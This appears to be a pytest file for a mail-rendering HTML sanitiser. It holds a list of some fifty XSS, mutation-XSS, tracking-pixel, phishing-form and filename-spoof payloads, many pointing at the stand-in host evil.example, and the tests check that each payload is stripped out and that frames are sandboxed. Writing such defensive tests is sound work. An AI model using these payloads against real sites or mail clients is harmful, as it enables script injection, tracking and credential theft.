"""HTML of messages is harmless: what is left has nothing that runs, loads, sends or opens."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailsim import sandbox
from mailsim.sandbox import framed, sanitised

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    '<img srcset="https://evil.example/a 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java&#10;script:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="https://evil.example" ping="https://evil.example/ping" target=_top>click</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;inset:0;background:red">x</div>',
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
    '<body onload=alert(1) background="https://evil.example/x">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    '<video poster="https://evil.example/x" src="https://evil.example/y" onerror=alert(1)></video>',
    '<audio src="https://evil.example/x" autoplay></audio>',
    '<form action="https://evil.example/"><input name=p type=password autofocus onfocus=alert(1)><button>Go</button></form>',
    '<input type=image src="https://evil.example/x">',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.example/x'?><!ENTITY x SYSTEM 'https://evil.example/'>",
    '"></iframe><script>alert(1)</script>',
    "' srcdoc='<script>alert(1)</script>' sandbox='allow-scripts",
    "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "</body></html><script>alert(1)</script>",
    "<im\x00g src=x onerror=alert(1)><\x00script>alert(1)</script>",
    "<img src='x' onerror='alert(1)",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "pay to \u202egnp.exe",
]
"""Known ways to run, to load or to send, of which none is to work; those who read mail in a browser share the list."""


class Inside(HTMLParser):
    """The elements and the attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element begins."""
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """What a reader sees."""
        self.words += data


def assert_harmless(clean: str) -> None:
    """Only elements of text, only attributes that span cells."""
    for tag, attributes in Inside(clean).found:
        assert tag in sandbox._TAGS
        assert attributes.keys() <= {"colspan", "rowspan"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_taken_out(payload: str) -> None:
    """Whatever surrounds them, and cleaned twice they are the same: nothing comes to life when it is read again."""
    clean = sanitised(f"<p>before</p>{payload}<p>after</p>")

    assert_harmless(clean)
    assert "before" in clean
    assert sanitised(clean) == clean


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "&", "</", "<!--", "\x00", "x"]), max_size=8
    ).map("".join)
)
def test_no_mixture_does_harm(html: str) -> None:
    """The law, for payloads cut and joined at will."""
    assert_harmless(sanitised(html))
    [(tag, attributes)] = Inside(framed(html)).found

    assert (tag, attributes["sandbox"]) == ("iframe", "")
    assert "src" not in attributes


def test_the_text_stays() -> None:
    """What somebody wrote is read: paragraphs, emphasis, tables and lists, and where cells span."""
    html = "<h1>Draft</h1><p>Do <b>you</b> agree?</p><table><tr><td colspan=2 bgcolor=red>yes</td></tr></table><ul><li>one"
    clean = sanitised(html)

    assert "<h1>Draft</h1><p>Do <b>you</b> agree?</p>" in clean
    assert '<td colspan="2">yes</td>' in clean
    assert "<li>one</li>" in clean


def test_direction_is_not_turned() -> None:
    """A name that reads backwards shows why; the letters of scripts that do stay."""
    assert sanitised("a\u202egpj.exe \u05d0\u05d1") == "a\\u202egpj.exe \u05d0\u05d1"


def test_a_frame_may_do_nothing_and_takes_its_own_style_only() -> None:
    """No permission, no source but none, one style sheet by its digest."""
    [(tag, attributes)] = Inside(framed("<p>hello</p>")).found
    page = attributes["srcdoc"] or ""

    assert (tag, attributes["sandbox"], attributes["referrerpolicy"]) == ("iframe", "", "no-referrer")
    assert re.search(r"content=\"default-src 'none'; style-src 'sha256-[\w+/]{43}='\"", page)
    assert page.index("Content-Security-Policy") < page.index("<style>") < page.index("<p>hello</p>")
    assert "http://" not in page
    assert "https://" not in page


def test_what_is_looked_at_is_bounded() -> None:
    """Of endless HTML the beginning."""
    assert len(framed("<b>x</b>" * 1_000_000)) < 4 * sandbox.MOST


def test_without_nh3_nothing_is_framed(monkeypatch: pytest.MonkeyPatch) -> None:
    """A frame alone is not thought enough."""
    import sys

    modules: dict[str, Any] = {"nh3": None}
    monkeypatch.setitem(sys.modules, "nh3", modules["nh3"])
    with pytest.raises(ModuleNotFoundError):
        framed("<p>hello</p>")
